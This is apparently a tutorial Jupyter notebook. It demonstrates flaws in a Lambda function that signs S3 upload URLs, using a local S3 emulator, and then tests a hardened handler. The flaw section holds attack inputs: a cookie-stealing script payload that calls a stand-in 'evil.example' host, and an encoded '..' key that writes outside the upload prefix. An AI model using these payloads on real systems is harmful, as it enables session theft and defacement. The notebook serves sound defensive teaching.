# ---
# jupyter:
#   kernelspec:
#     display_name: Python 3 (ipykernel)
#     language: python
#     name: python3
# ---

# %% [markdown]
# # The signing service: the seed's Lambda function, flaw by flaw
#
# The browser cannot sign its own upload URL: that needs AWS credentials. A small
# server-side function signs it instead. The article this kit started from (the "seed
# article") writes that function for AWS Lambda behind Amazon API Gateway. This notebook
# ports it to Python, calls it exactly as API Gateway would, and triggers each of its
# flaws against the strict local Amazon S3. Then it replaces it with a hardened handler
# and checks every fix.
#
# ## Overview
#
# 1. The seed's handler
# 2. The port, called as API Gateway calls it
# 3. Flaw 1: the client chooses the key
# 4. Flaw 2: the client chooses the status and the expiry
# 5. Flaw 3: the log names the wrong parameter
# 6. Flaw 4: a public-read ACL on a bucket without ACLs
# 7. Flaw 5: any content type, even HTML
# 8. The hardened handler

# %% [markdown]
# ## Prerequisites
#
# | Concept | Importance | Notes |
# |---|---|---|
# | [03-bucket-setup](03-bucket-setup.ipynb) | Necessary | Block Public Access, Object Ownership, the least-privilege signer |
# | [01-anatomy-of-a-presigned-url](01-anatomy-of-a-presigned-url.ipynb) | Helpful | Signed headers |
# | AWS Lambda and API Gateway | Helpful | A handler gets an event and returns a response |
#
# - **AWS account:** not needed. With `PRESIGNLAB_TARGET=aws` the same cells use real
#   buckets and an IAM user (no Lambda function is deployed: the handlers run in this
#   kernel).
# - **Time to learn:** 30 minutes.

# %% [markdown]
# ## Imports

# %%
import json
import logging
import posixpath
import re
from itertools import count
from logging.handlers import BufferingHandler

from presignlab import parse_presigned_url
from presignlab.diagnosis import diagnose
from presignlab.lab import open_lab, send
from presignlab.seed.signing_function import (
    ALLOWED_CONTENT_TYPES,
    api_gateway_event,
    make_hardened_handler,
    make_naive_handler,
)

# %% [markdown]
# The set-up cell opens the lab (the strict local S3 with its clock pinned at 2026-03-01
# 12:00 UTC) and creates two buckets:
#
# - `SEED_BUCKET` is configured the way buckets were when the seed article was written:
#   ACLs enabled (Object Ownership `ObjectWriter`) and no Block Public Access. The seed's
#   handler only works on such a bucket.
# - `BUCKET` has today's defaults: Block Public Access on, ACLs disabled.
#
# On real AWS, an account-level Block Public Access setting (if your account has one) also
# blocks the seed-era bucket's public ACLs; the uploads to it then fail with
# `403 AccessDenied`.

# %%
lab = open_lab("04-the-signing-service")
BUCKET = lab.create_bucket("uploads")
SEED_BUCKET = lab.create_bucket("seed-era")
lab.s3.put_bucket_ownership_controls(
    Bucket=SEED_BUCKET, OwnershipControls={"Rules": [{"ObjectOwnership": "ObjectWriter"}]}
)
lab.s3.delete_public_access_block(Bucket=SEED_BUCKET)
now = lab.clock.now() if lab.clock else None


# %% [markdown]
# Two small helpers: `call` runs a handler on the API Gateway proxy event for
# `GET /presign?...` and returns the status and the decoded JSON body, and `plain_url` is
# an object's unsigned URL (the presigned URL without its query), for anonymous reads.


# %%
def call(handler, **query):
    response = handler(api_gateway_event("GET", "/presign", query=query), None)
    return response["statusCode"], json.loads(response["body"])


def plain_url(bucket, key):
    url = lab.s3.generate_presigned_url("get_object", Params={"Bucket": bucket, "Key": key})
    return url.split("?")[0]


# %% [markdown]
# ## The seed's handler
#
# This is the handler the seed article walks through, as we render it (Node.js, the AWS
# SDK for JavaScript v2). It reads the object key `filekey`, the HTTP status `httpStatus`,
# and optionally `contentType` and `expires` from the query string, logs a line, signs a
# `putObject` with the canned ACL `public-read`, and returns the URL.

# %% [markdown]
# ```javascript
# // handler.js: AWS Lambda behind Amazon API Gateway (Node.js, AWS SDK for JavaScript v2)
# const AWS = require('aws-sdk');
# const s3 = new AWS.S3();
#
# exports.handler = async (event) => {
#   const params = event.queryStringParameters;
#   console.log('Getting a signed URL for ' + params.filename);
#
#   const signedUrl = s3.getSignedUrl('putObject', {
#     Bucket: process.env.UPLOAD_BUCKET,
#     Key: params.filekey,
#     ACL: 'public-read',
#     ContentType: params.contentType,
#     Expires: Number(params.expires) || 3600,
#   });
#
#   return {
#     statusCode: params.httpStatus,
#     headers: { 'Access-Control-Allow-Origin': '*' },
#     body: JSON.stringify({ signed_url: signedUrl, key: params.filekey }),
#   };
# };
# ```

# %% [markdown]
# `presignlab.seed.signing_function.make_naive_handler` is a line-by-line Python port, flaws
# included, with boto3's `generate_presigned_url` in place of `getSignedUrl`.

# %% [markdown]
# ## The port, called as API Gateway calls it
#
# API Gateway's Lambda proxy integration turns an HTTP request into an *event*: a dict
# with the method, path, headers and query parameters. `api_gateway_event` builds the
# event for a request; the parts a handler reads look like this:

# %%
event = api_gateway_event("GET", "/presign", query={"filekey": "cat.jpg", "httpStatus": "200"})
{name: event[name] for name in ("httpMethod", "path", "queryStringParameters")}

# %% [markdown]
# The port signs with the lab's client, as the Lambda function would with its execution
# role. The handler returns a *proxy response*: status, headers and a JSON body.

# %%
seed_log = logging.getLogger("seed-handler")
naive = make_naive_handler(lab.s3, SEED_BUCKET, logger=seed_log)
response = naive(event, None)
response["statusCode"], response["headers"]

# %% [markdown]
# The body holds the URL. Because it signed `ACL: public-read`, the URL lists `x-amz-acl`
# among its signed headers: the uploader must send `x-amz-acl: public-read`, a value the
# URL itself does not contain.

# %%
body = json.loads(response["body"])
url = parse_presigned_url(body["signed_url"])
print("key:", url.key)
print("signed headers:", url.signed_headers)
print("expires in:", url.expires_in)

# %% [markdown]
# On the seed-era bucket the upload works, and the `public-read` ACL makes the picture
# readable by anyone, which is what the seed wants:

# %%
ACL_HEADER = {"x-amz-acl": "public-read"}
upload = send("PUT", body["signed_url"], headers=ACL_HEADER, data=b"a picture of a cat")
anonymous = send("GET", plain_url(SEED_BUCKET, "cat.jpg"))
assert (upload.status, anonymous.status) == (200, 200)
upload.status, anonymous.status, anonymous.body

# %% [markdown]
# ## Flaw 1: the client chooses the key
#
# The key is whatever the client sends as `filekey`. Suppose Alice has uploaded her
# avatar:

# %%
status, alice = call(naive, filekey="avatars/alice.png", httpStatus="200")
first_upload = send("PUT", alice["signed_url"], headers=ACL_HEADER, data=b"Alice's face")
assert first_upload.status == 200
first_upload.status

# %% [markdown]
# Mallory asks the same function for the same key and uploads her own bytes. Amazon S3
# replaces the object: a presigned URL may overwrite anything its signer may write.

# %%
status, mallory = call(naive, filekey="avatars/alice.png", httpStatus="200")
send("PUT", mallory["signed_url"], headers=ACL_HEADER, data=b"something else")
served = send("GET", plain_url(SEED_BUCKET, "avatars/alice.png")).body
assert served == b"something else"
served

# %% [markdown]
# The key can also leave the area the application meant for uploads. To Amazon S3,
# `uploads/../index.html` is just a key with two dots in it. HTTP clients, browsers and
# `requests` alike, resolve `..` in a URL before sending it, which would change the signed
# path; Mallory simply writes the dots encoded (`%2E%2E`), which Amazon S3 decodes back:

# %%
status, escape = call(naive, filekey="uploads/../index.html", httpStatus="200")
encoded = escape["signed_url"].replace("/../", "/%2E%2E/")
landed = send("PUT", encoded, headers=ACL_HEADER, data=b"<h1>defaced</h1>")
keys = [o["Key"] for o in lab.s3.list_objects_v2(Bucket=SEED_BUCKET)["Contents"]]
assert landed.status == 200 and "uploads/../index.html" in keys
keys

# %% [markdown]
# The object landed at exactly the client's key. Any tool that later maps keys to paths
# (a sync to disk, a web server, a static-site deploy) follows the `..` and puts it
# outside `uploads/`:

# %%
posixpath.normpath("uploads/../index.html")

# %% [markdown]
# ## Flaw 2: the client chooses the status and the expiry
#
# The handler returns the client's `httpStatus` as its own status. A signed URL can come
# back as a "not found", and the client's monitoring counts a success as a failure:

# %%
status, answer = call(naive, filekey="cat.jpg", httpStatus="404")
assert status == 404 and "signed_url" in answer
status

# %% [markdown]
# A value that is not a number goes through unchanged; API Gateway would reject the whole
# response with `502 Malformed Lambda proxy response`, and a request without `httpStatus`
# gets no status at all:

# %%
assert call(naive, filekey="cat.jpg", httpStatus="OK")[0] == "OK"
assert call(naive, filekey="cat.jpg")[0] is None

# %% [markdown]
# The expiry is the client's choice too, up to SigV4's maximum of a week. Whoever obtains
# such a URL (from a log, a browser history or a chat) can write with it for seven days:

# %%
status, week = call(naive, filekey="cat.jpg", httpStatus="200", expires="604800")
parse_presigned_url(week["signed_url"]).expires_in

# %% [markdown]
# ## Flaw 3: the log names the wrong parameter
#
# The handler logs `filename`, a parameter the client never sends, instead of the key it
# signs. A `BufferingHandler` from the standard library, attached to the handler's logger,
# captures what it logs for one more request:

# %%
captured = BufferingHandler(capacity=1000)
seed_log.addHandler(captured)
seed_log.setLevel(logging.INFO)
call(naive, filekey="avatars/alice.png", httpStatus="200")
lines = [record.getMessage() for record in captured.buffer]
assert lines == ["Getting a signed URL for None"]
lines

# %% [markdown]
# After Mallory's overwrite, the logs cannot tell which keys were signed, for whom, or
# when. A signing service's log is the audit trail of who may write what: it should name
# the key (never the URL, whose signature is a credential).
#
# ## Flaw 4: a public-read ACL on a bucket without ACLs
#
# On a bucket created today, ACLs are disabled. The same handler, pointed at `BUCKET`,
# still signs `x-amz-acl: public-read`, and every upload fails with
# `400 AccessControlListNotSupported` (why, and the diagnosis `acl-not-supported`:
# [07-access-denied](07-access-denied.ipynb#ACLs-disabled:-AccessControlListNotSupported)):

# %%
today = make_naive_handler(lab.s3, BUCKET, logger=seed_log)
status, answer = call(today, filekey="cat.jpg", httpStatus="200")
refused = send("PUT", answer["signed_url"], headers=ACL_HEADER, data=b"a picture of a cat")
assert (refused.status, refused.code) == (400, "AccessControlListNotSupported")
refused.status, refused.code

# %% [markdown]
# Leaving the header out does not help: it is signed, so Amazon S3 computes another
# signature and answers `403 SignatureDoesNotMatch`, and the diagnosis points at the
# signed header that was not sent. The only fix is in the handler: stop signing an ACL.

# %%
without = send("PUT", answer["signed_url"], data=b"a picture of a cat")
assert (without.status, without.code) == (403, "SignatureDoesNotMatch")
codes = diagnose(answer["signed_url"], "PUT", error_xml=without.body, now=now).codes
assert codes == ["signed-header-missing"]
codes

# %% [markdown]
# ## Flaw 5: any content type, even HTML
#
# The handler signs whatever `contentType` the client names. Mallory names `text/html`
# and uploads a page with a script:

# %%
status, page = call(naive, filekey="cat.jpg", httpStatus="200", contentType="text/html")
html = b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
stored = send(
    "PUT", page["signed_url"], data=html, headers={**ACL_HEADER, "Content-Type": "text/html"}
)
assert stored.status == 200
stored.status

# %% [markdown]
# Amazon S3 serves the object with the content type it was uploaded with. Anyone who opens
# the "picture" gets an HTML page, and the browser runs its script in the origin that
# serves it: stored cross-site scripting. SVG images carry scripts too.

# %%
served = send("GET", plain_url(SEED_BUCKET, "cat.jpg"))
assert served.header("Content-Type") == "text/html" and served.body == html
served.header("Content-Type")

# %% [markdown]
# ## The hardened handler
#
# `make_hardened_handler` fixes each flaw:
#
# | Flaw | Fix |
# |---|---|
# | client-chosen key | the key is `uploads/<random id>/<sanitised name>`: the client only suggests a display name |
# | client-chosen status | `httpStatus` is ignored: 200 for a URL, 400 with a JSON error for bad input |
# | client-chosen expiry | at most 15 minutes (`max_expires=900`) |
# | wrong log line | logs the key, type and expiry it signed (never the URL) |
# | `public-read` ACL | no ACL: reading is a separate decision (presigned GET, CloudFront) |
# | any content type | only `ALLOWED_CONTENT_TYPES`, and the type is a signed header |
#
# It signs with the least-privilege identity from notebook 03 (`s3:PutObject` on
# `uploads/*` only). The ids are normally random (`uuid4`); here they come from a counter
# so the notebook prints the same keys on every run.

# %%
APP_ORIGIN = "http://localhost:3000"
signer = lab.create_signer(
    "upload-signer",
    {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Action": "s3:PutObject",
                "Resource": f"arn:aws:s3:::{BUCKET}/uploads/*",
            }
        ],
    },
)
ids = count(1)
hardened_log = logging.getLogger("hardened-handler")
hardened = make_hardened_handler(
    signer.client("s3"),
    BUCKET,
    id_factory=lambda: f"{next(ids):032x}",
    logger=hardened_log,
    allowed_origins=[APP_ORIGIN],
)
ALLOWED_CONTENT_TYPES

# %% [markdown]
# Mallory's request from flaws 1 and 2, with a `..` name, a 404 status and a day-long
# expiry, now gets a URL for a key the server chose, valid for 15 minutes, with status 200:

# %%
status, answer = call(
    hardened,
    filekey="uploads/../../index.html",
    contentType="image/png",
    httpStatus="404",
    expires="86400",
)
assert status == 200
assert re.fullmatch(r"uploads/[0-9a-f]{32}/index\.html", answer["key"])
assert answer["expires_in"] == 900
{name: value for name, value in answer.items() if name != "signed_url"}

# %% [markdown]
# The answer lists every header the uploader must send. With exactly those, the upload
# works, and the object is where the answer says:

# %%
done = send("PUT", answer["signed_url"], headers=answer["headers"], data=b"\x89PNG...")
assert done.status == 200
lab.s3.head_object(Bucket=BUCKET, Key=answer["key"])["ContentType"]

# %% [markdown]
# Asking for Alice's key twice gives two different keys, so nobody can overwrite anybody:

# %%
first = call(hardened, filekey="avatars/alice.png", contentType="image/png")[1]["key"]
second = call(hardened, filekey="avatars/alice.png", contentType="image/png")[1]["key"]
assert first != second
first, second

# %% [markdown]
# HTML, SVG, and a request that names no type are refused with `400` and a JSON error
# that says what is allowed:

# %%
for query in ({"contentType": "text/html"}, {"contentType": "image/svg+xml"}, {}):
    status, answer = call(hardened, filekey="cat.jpg", **query)
    assert status == 400 and "signed_url" not in answer
    print(status, answer["error"])

# %% [markdown]
# The content type is a signed header, so a client that received a URL for `image/png`
# cannot upload HTML with it either: the signature no longer matches.

# %%
status, png = call(hardened, filekey="cat.png", contentType="image/png")
swapped = send("PUT", png["signed_url"], headers={"Content-Type": "text/html"}, data=html)
assert (swapped.status, swapped.code) == (403, "SignatureDoesNotMatch")
swapped.status, swapped.code


# %% [markdown]
# The seed answered every origin with `Access-Control-Allow-Origin: *`. The hardened
# handler sends the header only to the application's origin, so a page elsewhere cannot
# read its answers from a browser:


# %%
def cors_answer(origin):
    event = api_gateway_event(
        query={"filekey": "cat.png", "contentType": "image/png"}, headers={"Origin": origin}
    )
    return hardened(event, None)["headers"].get("Access-Control-Allow-Origin")


assert cors_answer(APP_ORIGIN) == APP_ORIGIN
assert cors_answer("https://evil.example") is None
cors_answer(APP_ORIGIN), cors_answer("https://evil.example")

# %% [markdown]
# And its log names each key it signs, with the type and the expiry:

# %%
audit = BufferingHandler(capacity=1000)
hardened_log.addHandler(audit)
hardened_log.setLevel(logging.INFO)
call(hardened, filekey="report.pdf", contentType="application/pdf")
[record.getMessage() for record in audit.buffer]

# %% [markdown]
# ## Summary
#
# - The seed's handler trusts the client with the key, the status, the content type and
#   the expiry, logs a parameter nobody sends, and signs a `public-read` ACL.
# - Against the strict local S3: a client overwrites another user's object and writes
#   `uploads/../index.html`; a 404 or a non-number comes back as the status; an HTML page
#   with a script is stored and served as `text/html`; on a bucket created today every
#   upload fails with `400 AccessControlListNotSupported` (diagnosis `acl-not-supported`).
# - The hardened handler chooses `uploads/<id>/<name>`, signs only allowlisted content
#   types, caps the expiry at 15 minutes, ignores `httpStatus`, logs the key, signs no
#   ACL, and returns the headers the uploader must send.
#
# ## What's next
#
# [05-uploading](05-uploading.ipynb) uploads with these URLs: `PUT` with exactly the
# signed headers, large files with progress, presigned POST, and multipart uploads.

# %% [markdown]
# ## References
#
# - Amazon S3 User Guide, [Uploading objects with presigned URLs](https://docs.aws.amazon.com/AmazonS3/latest/userguide/PresignedUrlUploadObject.html)
# - AWS Lambda Developer Guide, [Using Lambda with API Gateway](https://docs.aws.amazon.com/lambda/latest/dg/services-apigateway.html)
# - Amazon API Gateway Developer Guide, [Lambda proxy integrations in API Gateway](https://docs.aws.amazon.com/apigateway/latest/developerguide/set-up-lambda-proxy-integrations.html)
# - Amazon S3 User Guide, [Controlling ownership of objects and disabling ACLs for your bucket](https://docs.aws.amazon.com/AmazonS3/latest/userguide/about-object-ownership.html)
# - Amazon S3 User Guide, [Naming Amazon S3 objects](https://docs.aws.amazon.com/AmazonS3/latest/userguide/object-keys.html)
# - Amazon S3 User Guide, [Download and upload objects with presigned URLs](https://docs.aws.amazon.com/AmazonS3/latest/userguide/using-presigned-url.html)

# %% [markdown]
# The last cell deletes both buckets and the signer.

# %%
lab.cleanup()
